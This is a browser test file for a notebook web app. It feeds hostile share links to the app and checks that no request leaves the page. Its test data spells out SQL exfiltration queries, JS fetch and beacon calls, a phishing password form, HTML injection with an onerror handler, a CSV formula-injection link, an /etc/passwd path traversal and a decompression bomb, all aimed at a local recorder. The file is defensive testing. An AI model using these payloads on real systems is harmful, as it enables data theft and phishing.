import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { PreviewServer } from 'vite';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { strToU8, zlibSync } from 'fflate';
import { encodeShareLink } from '../../src/notebook/share-link.ts';
import { startRecordingServer, type RecordingServer } from '../helpers/recording-server.ts';
import { foreignRequests, launchChromium, recordRequests, serveApp } from './browser.ts';

// Issue 14: every attack a notebook from someone else could make, against the built app in
// Chromium. A local server records every request it gets: it must get none, whatever the page
// shows; and nothing the attacker wrote may show as a form, an overlay or a remote image.

let server: PreviewServer;
let url: string;
let recorder: RecordingServer;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let requests: string[];
/** Requests the page began and its Content-Security-Policy stopped before they left. */
let blocked: string[];

beforeAll(async () => {
  recorder = await startRecordingServer();
  ({ url, server } = await serveApp());
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await recorder?.close();
  await new Promise<void>((done) => server?.httpServer.close(() => done()));
});

beforeEach(async () => {
  await context?.close();
  context = await browser.newContext({ viewport: { width: 1400, height: 1000 }, acceptDownloads: true, serviceWorkers: 'block' });
  page = await context.newPage();
  requests = recordRequests(page);
  blocked = [];
  page.on('requestfailed', (request) => { if (/csp/i.test(request.failure()?.errorText ?? '')) blocked.push(request.url()); });
});

/** Opens a share link made the way the app makes one, carrying `text` and `data`. */
async function openLink(text: string, data: { name: string; sample?: string; bytes?: Uint8Array }[] = []): Promise<void> {
  const { fragment } = encodeShareLink({ text, data });
  // from a blank page: a change of the fragment alone would not load the app again
  await page.goto('about:blank');
  await page.goto(`${url}#${fragment}`);
  await page.getByTestId('notebook-title').waitFor({ timeout: 60_000 });
}

const cell = (i: number) => page.locator('cb-notebook > cb-cell').nth(i);
/** What a cell shows once it has finished: its error, or its row count. */
async function outcome(i: number): Promise<string> {
  const output = cell(i).locator('[data-testid=cell-error], [data-testid=row-count]');
  await output.first().waitFor({ timeout: 60_000 });
  return (await output.first().textContent()) ?? '';
}
/**
 * Lets anything the page might still send arrive, then checks that nothing reached the recorder
 * and that every request for another origin was stopped by the page's policy (`blockedByPolicy`
 * names those expected: trusted code may try, the policy stops it).
 */
async function nothingSent(blockedByPolicy: string[] = []): Promise<void> {
  await page.waitForTimeout(1500);
  expect(recorder.requests).toEqual([]);
  expect(foreignRequests(requests, url).filter((r) => !blocked.includes(r))).toEqual([]);
  expect(blocked.map((r) => new URL(r).pathname).sort()).toEqual([...blockedByPolicy].sort());
}

describe('a hostile notebook (issue 14)', () => {
  test('its SQL runs before trust (it cannot reach out), every way out fails on its cell, and the trusted JS cannot send anything either', async () => {
    const REC = recorder.url;
    const attacks = [
      ["SET VARIABLE u = '" + REC + "/leak?d=' || (SELECT string_agg(user_id, ',') FROM events)", /^\d+ rows?$/],
      ["SELECT * FROM read_csv(getvariable('u'))", /^a cell can use only the data loaded into the notebook: "http:\/\/127\.0\.0\.1:\d+\/leak\?d=.*" is outside it/],
      ["SELECT 1 AS x; SET VARIABLE v = '" + REC + "/two'", /^a SQL cell runs one statement, and this one holds 2 \(the second begins at line 1, column 16\): put each in a cell of its own \(line 1:16\)$/],
      [`SELECT * FROM read_csv('${REC}/direct.csv')`, /^a cell can use only the data loaded into the notebook: "http:.*\/direct\.csv" is outside it \(line 1:15\)$/],
      [`SELECT * FROM '${REC}/scan.csv'`, /^a cell can use only the data loaded into the notebook: "http:.*\/scan\.csv" is outside it/],
      [`SELECT * FROM read_text('${REC}/text')`, /^a cell can use only the data loaded into the notebook: "http:.*\/text" is outside it/],
      [`COPY (SELECT * FROM events) TO '${REC}/copy.csv'`, /^a cell can use only the data loaded into the notebook: "http:.*\/copy\.csv" is outside it/],
      [`ATTACH '${REC}/db.duckdb' AS remote`, /^a cell can use only the data loaded into the notebook: "http:.*\/db\.duckdb" is outside it/],
      [`LOAD '${REC}/x.duckdb_extension'`, /^a cell cannot load database extensions: cohortbook works offline with what it ships$/],
      ["ATTACH 'opfs://stolen.db' AS o", /^a cell can use only the data loaded into the notebook: "opfs:\/\/stolen\.db" is outside it/],
      ['SET enable_external_access = true', /^a cell cannot change the database's settings \("enable_external_access"\)$/],
      ["SELECT * FROM read_csv('/cohortbook-files/not-registered.csv')", /^there is no file "\/cohortbook-files\/not-registered\.csv" among the data loaded into the notebook \(line 1:15\)$/],
    ] as const;
    const text = [
      '# Quarterly numbers', '',
      '```sql id=totals', 'SELECT count(*)::INTEGER AS n FROM events', '```', '',
      ...attacks.flatMap(([sql]) => ['```sql', sql, '```', '']),
      '```js',
      `await fetch('${REC}/js-fetch').catch(() => null);`,
      `new Image().src = '${REC}/js-image.gif';`,
      `navigator.sendBeacon('${REC}/js-beacon', 'd');`,
      "'sent?'",
      '```', '',
      '```retention id=weekly', '{"period": "week", "start_event": "signup", "intervals": 4}', '```',
    ].join('\n');
    await openLink(text, [{ name: 'shop-events.csv', sample: 'samples/shop-events.csv' }]);
    await expect(page.getByTestId('trust-banner').textContent()).resolves.toMatch(/came from a link/);
    // SQL and analysis cells of an untrusted notebook run: nothing they hold can reach out
    await expect.poll(() => cell(1).getByTestId('row-count').textContent().catch(() => null), { timeout: 60_000 }).toBe('1 row');
    await expect(cell(1).locator('cb-table-view td').first().textContent()).resolves.toMatch(/^25,?137$/);
    for (const [i, [sql, expected]] of attacks.entries()) {
      const shown = await outcome(2 + i);
      expect([sql, shown]).toEqual([sql, expect.stringMatching(expected)]);
    }
    const js = cell(2 + attacks.length);
    await expect(js.getByTestId('cell-error').textContent()).resolves.toMatch(/does not run until you trust this notebook/);
    await expect(outcome(3 + attacks.length)).resolves.toMatch(/^\d+ rows$/);
    await nothingSent();

    // trusted, the JS runs, and the page's content security policy stops its requests
    await page.getByTestId('trust').click();
    await expect.poll(() => js.locator('cb-cell-output pre').first().textContent().catch(() => ''), { timeout: 30_000 }).toMatch(/sent\?/);
    await nothingSent(['/js-image.gif']);
  });

  test('its Markdown shows prose only: no form, overlay, style, frame or remote image, and the trust banner stays clickable', async () => {
    const REC = recorder.url;
    const text = [
      '# Please sign in again', '',
      `<form action="${REC}/steal" method="post"><input name="user"><input type="password" name="password"><button>Sign in</button></form>`, '',
      '<div style="position:fixed;inset:0;z-index:9999;background:white;font-size:40px">Everything is fine ✓</div>', '',
      `<style>cb-app { display: none }</style>`, '',
      `![beacon](${REC}/beacon.gif) <img src="//${REC.slice(7)}/b2.gif"> <img src="x" srcset="${REC}/srcset.gif 2x">`, '',
      `<iframe src="${REC}/frame"></iframe><object data="${REC}/object"></object><embed src="${REC}/embed">`, '',
      `<video poster="${REC}/poster.png" src="${REC}/v.mp4"></video><audio src="${REC}/a.mp3" autoplay></audio>`, '',
      `<svg><image href="${REC}/svg.png"/></svg><link rel="stylesheet" href="${REC}/s.css"><meta http-equiv="refresh" content="0;url=${REC}/refresh">`, '',
      `<a href="https://example.com/" ping="${REC}/ping">a link</a> <img src="x" onerror="window.__pwned = 1">`, '',
    ].join('\n');
    await openLink(text);
    const prose = page.locator('cb-notebook .prose');
    await prose.first().waitFor({ timeout: 60_000 });
    for (const selector of ['form', 'input', 'button', 'style', '[style]', 'iframe', 'object', 'embed', 'video', 'audio', 'svg', 'link', 'meta', '[srcset]', '[ping]', '[onerror]']) {
      expect([selector, await prose.locator(selector).count()]).toEqual([selector, 0]);
    }
    expect(await prose.locator('img').evaluateAll((images) => images.map((img) => img.getAttribute('src')))).toEqual(['x', 'x']);
    await expect(prose.getByText('a link').isVisible()).resolves.toBe(true);
    // nothing covers the banner: its button receives the click
    await page.getByTestId('trust').click({ trial: true, timeout: 5_000 });
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null)).toBeNull();
    await nothingSent();
  });

  test('front matter and a link may name only the samples the app ships and generated logs; anything else is named and not fetched', async () => {
    const REC = recorder.url;
    await openLink(`---\ndata: ${REC}/evil.csv\n---\n\n# Front matter\n`);
    await expect.poll(() => page.getByTestId('load-error').textContent().catch(() => null), { timeout: 30_000 })
      .toMatch(new RegExp(`^this notebook asks for "${REC.replace(/[.:/]/g, '\\$&')}/evil\\.csv", which is not a log cohortbook provides .*so it was not fetched`));
    await nothingSent();

    await openLink('# Shared sample\n', [{ name: 'evil.csv', sample: `${REC}/sample.csv` }, { name: 'up.csv', sample: '../../etc/passwd' }]);
    await expect.poll(() => page.getByTestId('load-error').textContent().catch(() => null), { timeout: 30_000 })
      .toMatch(/^This notebook asks for "http:\/\/127\.0\.0\.1:\d+\/sample\.csv", .*not fetched.* This notebook asks for "\.\.\/\.\.\/etc\/passwd", .*not fetched/);
    await expect(page.getByTestId('notebook-title').textContent()).resolves.toBe('Shared sample');
    await expect(page.getByTestId('trust-banner').isVisible()).resolves.toBe(true);
    await nothingSent();
  });

  test("a link's data file never replaces the person's own file of the same name", async () => {
    await page.goto(url);
    await page.getByTestId('summary-rows').waitFor({ timeout: 60_000 });
    const mine = 'user_id,event,ts\nme,signup,2024-01-01T00:00:00Z\nme,purchase,2024-01-02T00:00:00Z\nyou,signup,2024-01-03T00:00:00Z\n';
    await page.getByTestId('file-input').setInputFiles({ name: 'orders.csv', mimeType: 'text/csv', buffer: Buffer.from(mine) });
    const active = page.locator('cb-data-panel section.active [data-testid=source-rows]');
    await expect.poll(() => active.textContent(), { timeout: 30_000 }).toBe('3');
    await page.waitForTimeout(1000); // autosave
    const own = await page.evaluate(() => localStorage.getItem('cohortbook-last-notebook'));

    const theirs = new TextEncoder().encode('user_id,event,ts\nattacker,signup,2024-01-01T00:00:00Z\n');
    await openLink('# Look at this\n', [{ name: 'orders.csv', bytes: theirs }]);
    await expect.poll(() => active.textContent(), { timeout: 30_000 }).toBe('1');
    await page.waitForTimeout(1000);

    // the person reopens their own notebook: its orders.csv is theirs
    await page.evaluate((id) => localStorage.setItem('cohortbook-last-notebook', id!), own);
    await page.goto('about:blank');
    await page.goto(url);
    await expect.poll(() => page.locator('cb-data-panel section', { hasText: 'orders.csv' }).getByTestId('source-rows').textContent().catch(() => null), { timeout: 60_000 }).toBe('3');
    await nothingSent();
  });

  test('a CSV download neutralises formula cells', async () => {
    await openLink(`# Export\n\n\`\`\`sql id=links\nSELECT '=HYPERLINK("${recorder.url}/x?d="&A2,"click")' AS link, '@SUM(1)' AS "=cmd", -3 AS n\n\`\`\`\n`);
    await expect.poll(() => cell(1).getByTestId('row-count').textContent().catch(() => null), { timeout: 60_000 }).toBe('1 row');
    const download = page.waitForEvent('download');
    await cell(1).getByRole('button', { name: 'CSV' }).click();
    const stream = await (await download).createReadStream();
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(chunk as Buffer);
    expect(Buffer.concat(chunks).toString('utf8')).toBe(`link,'=cmd,n\n"'=HYPERLINK(""${recorder.url}/x?d=""&A2,""click"")",'@SUM(1),-3\n`);
    await nothingSent();
  });

  test('a link that expands to gigabytes, or is not shaped like a notebook, gets one sentence and the page keeps working', async () => {
    const bomb = Buffer.from(zlibSync(strToU8(`{"v":1,"text":"${' '.repeat(256 * 1024 * 1024)}","data":[]}`), { level: 9 })).toString('base64url');
    await page.goto('about:blank');
    await page.goto(`${url}#nb=${bomb}`);
    await expect.poll(() => page.getByTestId('load-error').textContent().catch(() => null), { timeout: 60_000 })
      .toBe('This link could not be opened: this notebook link expands to more than 32 MB, more than any notebook cohortbook makes: it was not opened');
    await expect.poll(() => page.getByTestId('summary-rows').textContent().catch(() => null), { timeout: 60_000 }).toBe('25,137');

    const shaped = Buffer.from(zlibSync(strToU8(JSON.stringify({ v: 1, text: '# x', data: [{ name: '../../orders.csv', bytes: '' }] })))).toString('base64url');
    await page.goto('about:blank');
    await page.goto(`${url}#nb=${shaped}`);
    await expect.poll(() => page.getByTestId('load-error').textContent().catch(() => null), { timeout: 60_000 })
      .toBe('This link could not be opened: this link does not hold a cohortbook notebook: data file 1 has no usable name');
    await nothingSent();
  });
});
